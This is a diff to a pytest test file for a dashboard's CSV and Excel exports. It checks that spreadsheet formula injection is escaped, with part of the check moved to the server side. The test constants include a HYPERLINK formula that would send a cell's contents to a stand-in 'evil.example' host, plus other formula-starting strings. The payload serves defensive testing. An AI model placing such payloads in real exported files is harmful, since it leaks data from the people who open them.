@@ -9,12 +9,14 @@ import base64
 import csv
 import io
 from datetime import datetime, timedelta, timezone
+from zoneinfo import ZoneInfo
 
 import openpyxl
 import pytest
 
 from ingest import simulator
 from tds_dash.app import create_app
+from tds_dash.consumption.explorer import model as explorer_model
 from tds_dash.exports import FORMULA_STARTS, safe_cell
 from tests.conftest import ensure_test_user
 from tests.helpers import settings_for
@@ -24,6 +26,7 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"Click")'
 NAMES = [HYPERLINK, "+1+1", "-2+3", "@SUM(1)", "\tTAB", "\rCR"]
 ACCOUNT_NAME = "@Acme"
 UNIT = "=1+2"
+ZONE = ZoneInfo("America/Sao_Paulo")
 
 
 @pytest.fixture
@@ -65,17 +68,15 @@ def _value(values: dict, dependency: dict):
     return values.get(f"{dependency['id']}.{dependency['property']}", values.get(dependency["id"]))
 
 
-def explorer_download(app, client, button: str, label: str | None = None) -> dict:
-    """The real store, then the real download; `label` renames the first charted series (the CSV's only text)."""
+def explorer_download(app, client, button: str) -> dict:
+    """The real store, then the real download (read again from the data layer, with every device)."""
     today = datetime.now(timezone.utc).date()
-    store = post_callback(app, client, "explorer-store.data", {
-        "explorer-interval": 1, "explorer-metric": "energy_kwh", "explorer-dates.end_date": today.isoformat(),
-        "explorer-dates.start_date": (today - timedelta(days=2)).isoformat()})["explorer-store"]["data"]
-    assert store and len(store["devices"]) == len(NAMES), store
-    if label:
-        store["series"][0]["label"] = label
+    view = {"explorer-metric": "energy_kwh", "explorer-dates.end_date": today.isoformat(),
+            "explorer-dates.start_date": (today - timedelta(days=2)).isoformat()}
+    store = post_callback(app, client, "explorer-store.data", {**view, "explorer-interval": 1})["explorer-store"]["data"]
+    assert store and store["device_count"] == len(NAMES), store
     download = post_callback(app, client, "explorer-download.data",
-                             {button: 1, "explorer-store": store, "explorer-mode": "bars"}, f"{button}.n_clicks")
+                             {**view, button: 1, "explorer-mode": "bars"}, f"{button}.n_clicks")
     return download["explorer-download"]["data"]
 
 
@@ -114,16 +115,20 @@ def test_sec402_explorer_excel_holds_text_not_formulas(dangerous_fleet):
 
 def test_sec403_explorer_csv_holds_text_not_formulas(dangerous_fleet):
     app, client, _ = dangerous_fleet
-    # Charted labels are serial/code (patterns that cannot start a formula), but the download renders
-    # the browser's store, which a crafted request controls.
-    data = explorer_download(app, client, "explorer-download-csv", label=HYPERLINK)
+    # Charted labels are serial/code (patterns that cannot start a formula) and the download is read again
+    # on the server (issue 16), so no request can put text in it; a label that did start one is escaped.
+    data = explorer_download(app, client, "explorer-download-csv")
     rows = list(csv.reader(io.StringIO(data["content"])))
-    # A header is the series' label and its unit ("… (kWh)"): the whole cell is escaped, label first.
-    assert len(rows) > 2 and any(cell.startswith("'" + HYPERLINK) for cell in rows[0]), rows[0]
+    assert len(rows) > 2 and rows[0][1].endswith(f" ({UNIT})"), rows[0]
     for row in rows:
         for value in row:
             assert_text_is_safe(value, "explorer csv")
     float(rows[1][1] or 0)  # numbers stay plain numbers
+    store = {"metric": "energy_kwh", "unit": UNIT, "granularity": "day", "buckets": ["2026-03-01T03:00:00+00:00"],
+             "series": [{"device_id": 1, "label": HYPERLINK, "values": [1.0]}], "previous": None}
+    header = next(csv.reader(io.StringIO(explorer_model.to_csv(store, "bars", ZONE))))
+    # A header is the series' label and its unit ("… (kWh)"): the whole cell is escaped, label first.
+    assert header[1].startswith("'" + HYPERLINK), header
 
 
 def test_sec404_api_csv_holds_text_not_formulas(dangerous_fleet):
